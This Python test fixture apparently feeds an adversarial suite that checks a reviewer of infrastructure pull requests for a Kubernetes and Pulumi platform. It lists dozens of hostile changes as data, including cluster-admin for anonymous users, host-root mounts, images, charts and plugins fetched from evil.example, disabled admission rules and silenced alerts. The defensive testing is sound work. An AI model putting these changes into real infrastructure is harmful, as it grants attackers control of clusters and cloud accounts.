"""What the author of a pull request declares in the cluster, and around the program's resources."""

from typing import Any, Final

from tests.adversary.independent.cloud import adds, edits, removes
from tests.adversary.probe import Change

RBAC: Final = "kubernetes:rbac.authorization.k8s.io/v1:"
META: Final = {"metadata": {"name": "it", "namespace": "kube-system"}}
TEAM: Final = {"metadata": {"name": "it", "namespace": "vision-training"}}


def permits(act: str, *, groups: tuple[str, ...] = ("",), verbs: tuple[str, ...] = ("*",), **rule: Any) -> Change:
    rules = [{"apiGroups": list(groups), "verbs": list(verbs), **rule}]
    return adds(act, f"{RBAC}ClusterRole", metadata={"name": "it"}, rules=rules)


def binds(act: str, role: str, *subjects: Any, kind: str = "ClusterRoleBinding") -> Change:
    return adds(act, f"{RBAC}{kind}", **META, roleRef={"kind": "ClusterRole", "name": role,
                "apiGroup": "rbac.authorization.k8s.io"}, subjects=list(subjects))  # fmt: skip


def user(name: str, kind: str = "User") -> dict[str, str]:
    return {"kind": kind, "name": name, "apiGroup": "rbac.authorization.k8s.io"}


RIGHTS: Final = (
    permits("lets a role take roles beyond its own", resources=["clusterroles"],
            groups=("rbac.authorization.k8s.io",), verbs=("escalate",)),
    permits("lets a role bind others", resources=["rolebindings"], groups=("rbac.authorization.k8s.io",),
            verbs=("create", "bind")),
    permits("lets a role be anybody", resources=["users", "groups", "serviceaccounts"], verbs=("impersonate",)),
    permits("lets a role speak with kubelets", resources=["nodes/proxy"], verbs=("get",)),
    permits("lets a role make tokens of all accounts", resources=["serviceaccounts/token"], verbs=("create",)),
    permits("lets a role read all Secrets", resources=["secrets"], verbs=("list",)),
    permits("lets a role read everything of the core", resources=["*"], verbs=("get",)),
    permits("lets a role run commands in all pods", resources=["pods/exec"], verbs=("create",)),
    permits("lets a role debug all pods", resources=["pods/ephemeralcontainers"], verbs=("patch",)),
    permits("lets a role sign certificates", resources=["certificatesigningrequests/approval", "signers"],
            groups=("certificates.k8s.io",), verbs=("update", "approve", "sign")),
    permits("lets a role register webhooks", resources=["mutatingwebhookconfigurations"],
            groups=("admissionregistration.k8s.io",), verbs=("create",)),
    permits("lets a role change workloads everywhere", resources=["daemonsets", "deployments"], groups=("apps",)),
    permits("lets a role relabel namespaces", resources=["namespaces"], verbs=("patch",)),
    adds("lets a role reach every path", f"{RBAC}ClusterRole", metadata={"name": "it"},
         rules=[{"nonResourceURLs": ["*"], "verbs": ["*"]}]),
    edits("lets teams change their roles", "team-roles-edit", "rules", 0, to={
        "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["rolebindings"], "verbs": ["*"]}),
    edits("lets teams read Secrets", "team-roles-view", "rules", 0, to={
        "apiGroups": [""], "resources": ["secrets"], "verbs": ["list"]}),
    binds("makes anonymous requests an administrator", "cluster-admin", user("system:anonymous")),
    binds("makes an account of the system an administrator", "cluster-admin",
          {"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}),
    binds("lets all accounts of a namespace edit", "edit", user("system:serviceaccounts:default", "Group")),
    binds("makes a person an administrator", "cluster-admin", user("alice")),
    binds("makes a person an administrator of the system's namespace", "admin", user("alice"), kind="RoleBinding"),
    edits("lets another team edit", "space-language-training-binding-edit", "subjects", to=[
        user("slipway:vision:edit", "Group")]),
)  # fmt: skip

POD: Final = {"containers": [{"name": "c", "image": "registry.example.com/x:1"}]}


def runs(act: str, kind: str, pod: dict[str, Any], place: dict[str, Any] | None = None) -> Change:
    body = {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}}, "spec": pod}}
    return adds(act, f"kubernetes:apps/v1:{kind}", **(place or META), spec=body)


OBJECTS: Final = (
    runs("runs with the node's network on all nodes", "DaemonSet", {**POD, "hostNetwork": True}),
    runs("mounts the root of all nodes", "DaemonSet", {**POD, "volumes": [{"name": "v", "hostPath": {"path": "/"}}]}),
    runs("runs an image by its latest version", "Deployment", {
        "containers": [{"name": "c", "image": "evil.example/x"}]}),
    runs("runs as Karpenter in a deployment", "Deployment", {**POD, "serviceAccountName": "karpenter"}),
    adds("gives an account a role of another account", "kubernetes:core/v1:ServiceAccount", metadata={
        "name": "it", "namespace": "kube-system", "annotations": {
            "eks.amazonaws.com/role-arn": "arn:aws:iam::999999999999:role/x"}}),
    adds("opens a Service to the internet", "kubernetes:core/v1:Service", metadata={
        "name": "it", "namespace": "monitoring", "annotations": {
            "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing"}},
         spec={"type": "LoadBalancer", "ports": [{"port": 80}]}),
    adds("takes traffic with external addresses", "kubernetes:core/v1:Service", **META,
         spec={"externalIPs": ["172.20.0.1"], "ports": [{"port": 443}]}),
    adds("opens Grafana to the internet", "kubernetes:networking.k8s.io/v1:Ingress", metadata={
        "name": "it", "namespace": "monitoring", "annotations": {
            "alb.ingress.kubernetes.io/scheme": "internet-facing"}}, spec={"ingressClassName": "alb"}),
    edits("opens all load balancers of models to the internet", "kserve-ingress-params", "spec", "scheme",
          to="internet-facing"),
    edits("lets a team run privileged pods", "space-vision-training-namespace", "metadata", "labels",
          to={"platform.slipway/team": "vision", "pod-security.kubernetes.io/enforce": "privileged"}),
    adds("makes a namespace without Pod Security", "kubernetes:core/v1:Namespace", metadata={"name": "mine"}),
    edits("stores volumes in plain", "storage-class-block", "parameters", to={"type": "gp3", "encrypted": "false"}),
    adds("makes a class that all pods get", "kubernetes:scheduling.k8s.io/v1:PriorityClass",
         metadata={"name": "it"}, value=10**9, globalDefault=True),
    edits("gives experiments the highest priority", "priorities-experiment", "value", to=10**9),
    edits("lets one team take everything", "queue-vision-cluster-queue", "spec", "namespaceSelector", to={}),
    edits("warns instead of refusing", "admission-host-access-binding", "spec", "validationActions", to=["Warn"]),
    edits("binds a rule to no namespace", "admission-host-access-binding", "spec", "matchResources", to={
        "namespaceSelector": {"matchLabels": {"a": "b"}}}),
    edits("ignores errors of a rule", "admission-host-access", "spec", "failurePolicy", to="Ignore"),
    edits("lets a rule pass for all", "admission-host-access", "spec", "validations", to=[{"expression": "true"}]),
    edits("excuses all from a rule", "admission-host-access", "spec", "matchConditions", to=[
        {"name": "none", "expression": "false"}]),
    removes("removes the binding of a rule", "admission-host-access-binding"),
    removes("removes a rule", "admission-external-ips"),
    removes("removes the quota of a team", "space-vision-training-quota"),
    removes("removes the default policy of a network", "space-vision-training-network-default-deny"),
    edits("raises the quota of a team to everything", "space-vision-training-quota", "spec", "hard",
          to={"pods": "1000000"}),
    adds("mounts files of nodes as a CSI volume of a server", "kubernetes:core/v1:PersistentVolume",
         metadata={"name": "it"}, spec={"nfs": {"server": "10.0.0.1", "path": "/"},
                                        "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]}),
    adds("writes a password into the program", "kubernetes:core/v1:Secret", **TEAM, stringData={"password": "x"}),
    edits("replaces the server's image in a runtime of models", "kserve-runtime-huggingface", "spec", "containers", 0,
          "image", to="evil.example/x:latest"),
    edits("runs privileged trainers", "trainer-runtime-torch-distributed", "spec", "template", "spec",
          "replicatedJobs", to=[{"name": "node", "template": {"spec": {"template": {"spec": {"containers": [
              {"name": "node", "image": "x:1", "securityContext": {"privileged": True}}]}}}}}]),
    edits("silences the alerts", "kube-prometheus-stack-rules-alerts", "spec", "groups", to=[]),
)  # fmt: skip

CHART: Final = "keda-release"
PROGRAM: Final = (
    edits("takes a chart from somewhere", CHART, "repositoryOpts", to={"repo": "https://charts.evil.example"}),
    edits("takes a chart without encryption", CHART, "repositoryOpts", to={"repo": "http://kedacore.github.io/charts"}),
    edits("takes another chart", CHART, "chart", to="oci://evil.example/keda"),
    edits("lets a chart be privileged", CHART, "values", "securityContext", to={"operator": {"privileged": True}}),
    edits("lets a chart take any image", CHART, "values", "image", to={
        "keda": {"registry": "evil.example", "repository": "keda", "tag": "latest"}}),
    edits("takes versions in development", CHART, "devel", to=True),
    adds("uses another endpoint of AWS", "pulumi:providers:aws", region="us-east-1",
         endpoints='[{"s3":"https://evil.example"}]'),
    adds("acts in another account", "pulumi:providers:aws", region="us-east-1",
         assumeRoles='[{"roleArn":"arn:aws:iam::999999999999:role/x"}]'),
    adds("acts without knowing the account", "pulumi:providers:aws", region="us-east-1",
         skipRequestingAccountId="true", skipCredentialsValidation="true"),
    adds("acts in another cluster", "pulumi:providers:kubernetes", kubeconfig="{}", context="other"),
    adds("reads the state of another stack", "pulumi:pulumi:StackReference", name="o/p/s"),
    adds("fetches a plugin of somebody", "pulumi:providers:evil", pluginDownloadURL="https://evil.example"),
    Change("makes a bucket in another account's provider", type="aws:s3/bucket:Bucket", props={},
        provider={"region": "us-east-1", "allowedAccountIds": ["999999999999"]}),
    Change("makes a bucket in another region", type="aws:s3/bucket:Bucket", props={},
        provider={"region": "ap-south-1", "allowedAccountIds": ["444455556666"]}),
    Change("makes a bucket in another region by its property", type="aws:s3/bucket:Bucket",
        props={"region": "ap-south-1"}),
    Change("leaves a bucket unprotected", name="storage-state", options={"protect": False}),
    Change("leaves the cluster unprotected", name="cluster-control-plane", options={"protect": False}),
    Change("ignores changes of the API's endpoint", name="cluster-control-plane",
        options={"ignore_changes": ("vpcConfig.publicAccessCidrs",)}),
    Change("ignores changes of a key's policy", name="storage-key", options={"ignore_changes": ("policy",)}),
    Change("ignores changes of a role's trust", name="karpenter-controller",
        options={"ignore_changes": ("assumeRolePolicy",)}),
    Change("ignores changes of a namespace's labels", name="space-vision-training-namespace",
        options={"ignore_changes": ("metadata.labels",)}),
    Change("ignores changes of a rule", name="admission-host-access", options={"ignore_changes": ("spec",)}),
    adds("declares random text in the program's state", "random:index/randomPassword:RandomPassword", length=16),
    adds("fetches a file of somebody into the program", "std:index:file", input="x"),
    adds("applies any YAML", "kubernetes:yaml:ConfigFile", file="https://evil.example/x.yaml"),
)  # fmt: skip

DECLARED: Final = (*RIGHTS, *OBJECTS, *PROGRAM)
